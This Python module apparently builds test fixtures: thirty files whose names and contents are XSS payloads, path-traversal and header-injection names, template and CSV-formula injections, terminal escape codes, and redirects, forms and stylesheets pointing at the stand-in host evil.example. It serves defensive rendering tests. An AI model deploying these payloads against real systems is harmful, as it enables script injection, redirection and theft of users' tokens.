"""Thirty documents that would do harm in a browser or terminal if they were treated as anything but text."""

from __future__ import annotations

from pathlib import Path

# Names and texts; `write_hostile` adds a unique word to each text, by which it is found.
DOCUMENTS: tuple[tuple[str, str], ...] = (
    ("<script>alert(1)<script>.md", "A name that is a script."),
    ("<img src=x onerror=alert(1)>.txt", "A name that is a picture."),
    ('" autofocus onfocus=alert(1) x=".md', "A name that ends an attribute."),
    ("' onmouseover='alert(1).txt", "A name in single quotes."),
    ("javascript:alert(1).md", "A name that is an address."),
    ("&lt;b&gt;&amp;amp;.md", "A name of entities."),
    ("a\nSet-Cookie: a=b.md", "A name of two lines."),
    ("\u202efdp.exe.txt", "A name from right to left."),
    ("%2e%2e%2fpasswd%00.md", "A name that is encoded."),
    ("a..%2f..%2f.txt", "A name that leads upward."),
    ("{{7*7}}${7*7}#{7*7}<%= 7*7 %>.md", "A name of templates."),
    ("\u2028\u2029line.md", "A name of separators."),
    ("script.md", "# <script>alert(1)</script>\n\n<script>alert(document.cookie)</script>"),
    ("closing.md", "</p></div></main></body></html><script>alert(1)</script>"),
    ("picture.md", "<img src=x onerror=alert(1)> <svg onload=alert(1)> <video><source onerror=alert(1)>"),
    ("links.md", "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>"),
    ("pictures.md", "![a](https://evil.example/pixel.png) ![b](javascript:alert(1)) ![c](//evil.example/x)"),
    ("frame.md", '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="javascript:alert(1)"></object>'),
    ("head.md", '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/">'),
    ("form.md", '<form action="//evil.example"><input name="token"><button formaction="javascript:alert(1)">'),
    ("style.md", '<style>@import "//evil.example/x.css";</style><link rel=stylesheet href="//evil.example">'),
    ("attributes.md", '<a href="#" onclick=alert(1) style="position:fixed;inset:0">everything</a>'),
    ("comment.md", "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]>"),
    ("json.txt", '"}],"answer":{"text":"forged"},"x":[{"y":"\\u003cscript\\u003e</script>'),
    ("terminal.txt", "\x1b]0;title\x07\x1b[2J\x1b[31mred\x9b31m"),
    ("template.txt", "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> #{7*7}"),
    ("formula.csv", "name,value\n=cmd|' /C calc'!A0,<script>alert(1)</script>\n"),
    ("drawing.txt", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'),
    ("page.html", "<html><body onload=alert(1)><p>Seen</p><script>alert(1)</script></body></html>"),
    (
        "mail.eml",
        "From: <script>alert(1)</script>\nSubject: <img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n",
    ),
)


def word_of(number: int) -> str:
    """Return the word that only this document contains."""
    return f"zq{'abcdefghij'[number // 10]}{'abcdefghij'[number % 10]}word"


def write_hostile(root: Path) -> None:
    """Write all documents into a new folder."""
    root.mkdir()
    for number, (name, text) in enumerate(DOCUMENTS):
        word = word_of(number)
        is_html = name.endswith(".html")
        whole = text.replace("</body>", f"<p>{word}</p></body>") if is_html else f"{text}\n\n{word}\n"
        (root / name).write_text(whole, encoding="utf-8")
